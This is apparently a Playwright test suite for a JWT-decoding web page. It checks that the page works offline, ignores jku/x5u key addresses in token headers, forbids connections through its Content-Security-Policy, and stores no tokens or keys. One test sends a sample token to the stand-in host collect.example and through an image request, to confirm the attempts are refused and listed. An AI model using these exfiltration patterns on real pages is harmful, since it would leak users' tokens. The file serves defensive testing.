import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { cannotRun, startBrowser } from './browser.ts';
import { chooseSample, tokenBox, keyBox, openPage, waitForLight } from './open-page.ts';
import { servePage, type ServedPage } from './serve-page.ts';

describe('what is pasted stays in the page', { skip: cannotRun }, () => {
  let served: ServedPage;
  let browser: Browser;

  before(async () => {
    [served, browser] = await Promise.all([servePage(), startBrowser()]);
  });
  after(async () => {
    await browser.close();
    await served.close();
  });

  test('it works with the network off', async () => {
    const { page, close, errors } = await openPage(browser, served.address);
    await page.context().setOffline(true);
    await chooseSample(page, 'rs256');
    await waitForLight(page, 'Signed by your key', 'yes');
    await chooseSample(page, 'hs512');
    await waitForLight(page, 'Signed by your key', 'yes');
    assert.deepEqual(errors, []);
    await close();
  });

  test('an address in a token or in the key box fetches nothing', async () => {
    const { page, close, lateRequests } = await openPage(browser, served.address);
    const header = Buffer.from(
      `{"alg":"RS256","jku":"${served.address}jwks","x5u":"${served.address}x"}`,
    ).toString('base64url');
    await tokenBox(page).fill(`${header}.e30.AAAA`);
    await keyBox(page).fill(`${served.address}jwks`);
    await page.getByText('Nothing is fetched here.').first().waitFor();
    await page.getByText('HDR-02').first().waitFor();
    const leadsOn = page.getByRole('region', { name: 'Key' }).getByRole('link', { name: 'Fetch a key set' });
    assert.match((await leadsOn.getAttribute('href')) ?? '', /^\.\/fetch\.html#address=http/);
    assert.deepEqual(lateRequests, []);
    await close();
  });

  test('the page itself forbids every connection, also without the header of a server', async () => {
    const { page, close } = await openPage(browser, served.address);
    const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
    assert.match(policy ?? '', /default-src 'none'.*connect-src 'none'/);
    const refused = await page.evaluate(async () =>
      fetch('./index.html').then(
        () => false,
        () => true,
      ),
    );
    assert.equal(refused, true);
    await close();
  });

  test('nothing is stored', async () => {
    const { page, close } = await openPage(browser, served.address);
    await chooseSample(page, 'hs256');
    await waitForLight(page, 'Signed by your key', 'yes');
    const stored = await page.evaluate(() => [localStorage.length, sessionStorage.length, document.cookie]);
    assert.deepEqual(stored, [0, 0, '']);
    await close();
  });

  test('every attempt to reach anybody is counted and listed', async () => {
    const { page, close } = await openPage(browser, served.address);
    await page.getByRole('button', { name: 'Requests: 0', exact: true }).waitFor();
    await page.evaluate(async () => fetch('https://collect.example/?token=x').catch(() => undefined));
    await page.evaluate(async () => {
      // An image of this server is allowed, and would carry a token away all the same.
      const image = new Image();
      image.src = './collect?token=x';
      await image.decode().catch(() => undefined);
    });
    await page.getByRole('button', { name: 'Requests: 1 · refused: 1' }).click();
    const sheet = page.getByRole('dialog', { name: 'Nothing leaves this page' });
    await sheet.getByText('1 request beyond its own files, 1 attempt refused').waitFor();
    await sheet.getByRole('rowheader', { name: 'https://collect.example/?token=x' }).waitFor();
    await sheet.getByRole('rowheader', { name: `${served.address}collect?token=x` }).waitFor();
    await close();
  });

  test('settings are stored only while that is wanted, and never a token or a key', async () => {
    const { page, close } = await openPage(browser, served.address);
    const stored = async (): Promise<string> =>
      page.evaluate(() => JSON.stringify(Object.entries(localStorage)));
    await chooseSample(page, 'hs256');
    await page.getByLabel('Issuer').fill('https://mine.example');
    await page.getByRole('button', { name: 'Theme: as the system' }).click();
    await page.getByRole('button', { name: 'Theme: light' }).click();
    assert.equal(await stored(), '[]');
    await page.getByRole('button', { name: 'Settings' }).click();
    const sheet = page.getByRole('dialog', { name: 'Settings' });
    await sheet.getByText('Nothing is stored on this device.').waitFor();
    await sheet.getByLabel('Remember settings on this device').check();
    const kept = await stored();
    assert.match(kept, /mine\.example/);
    assert.doesNotMatch(kept, /eyJ|0123456789|secret/);
    await page.reload();
    assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark');
    assert.equal(await page.getByLabel('Issuer').inputValue(), 'https://mine.example');
    assert.equal(await tokenBox(page).inputValue(), '');
    await page.getByRole('button', { name: 'Settings' }).click();
    await sheet.getByLabel('Remember settings on this device').uncheck();
    assert.equal(await stored(), '[]');
    await close();
  });
});
